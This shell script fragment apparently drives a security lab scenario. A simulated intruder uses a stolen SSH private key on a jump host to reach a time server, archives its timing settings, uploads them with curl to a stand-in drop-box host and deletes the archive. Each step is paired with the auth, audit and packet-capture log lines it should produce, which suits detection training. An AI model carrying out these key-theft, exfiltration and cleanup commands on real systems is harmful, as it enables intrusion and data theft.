# The new account borrows a key left on the jump host, packs the time server's settings and sends them outside.
# The settings are random bytes made by the lab.

archive=/var/tmp/.t.tgz
begin_stage archive-egress 6 hts-time1 "$THIEF" "$NEW_ACCOUNT" 'An archive of timing settings leaves over the network'
did "login as $NEW_ACCOUNT" jump1:auth "Accepted password for $NEW_ACCOUNT from $THIEF port "
{
  sleep 1.5
  PACE=2 say "sudo ssh -i /home/$STOLEN_ACCOUNT/.ssh/id_ed25519 $STOLEN_ACCOUNT@$TIME" \
    jump1:auth "COMMAND=/usr/bin/ssh -i /home/$STOLEN_ACCOUNT/.ssh/id_ed25519 $STOLEN_ACCOUNT@$TIME" \
    time1:auth "Accepted publickey for $STOLEN_ACCOUNT from 10.20.0.10 port "
  say 'chronyc -n tracking' time1:audit 'a0="chronyc" a1="-n" a2="tracking"'
  PACE=2 say "sudo tar czf $archive /srv/timing" time1:auth "COMMAND=/usr/bin/tar czf $archive /srv/timing" \
    time1:audit "a0=\"tar\" a1=\"czf\" a2=\"$archive\" a3=\"/srv/timing\""
  PACE=3 say "curl -s -T $archive http://$DROP_BOX:8080/t.tgz" \
    time1:audit "a0=\"curl\" a1=\"-s\" a2=\"-T\" a3=\"$archive\" a4=\"http://$DROP_BOX:8080/t.tgz\"" \
    time1:audit "laddr=$DROP_BOX lport=8080" \
    time1:tshark "\"ip_src\":[\"$TIME\"],\"ip_dst\":[\"$DROP_BOX\"]"
  say "sudo rm -f $archive" time1:audit "a0=\"rm\" a1=\"-f\" a2=\"$archive\""
  hush exit
  hush exit
} | from_outside "$THIEF" "$NEW_ACCOUNT" "$NEW_PASSWORD" "$JUMP" || true
end_stage
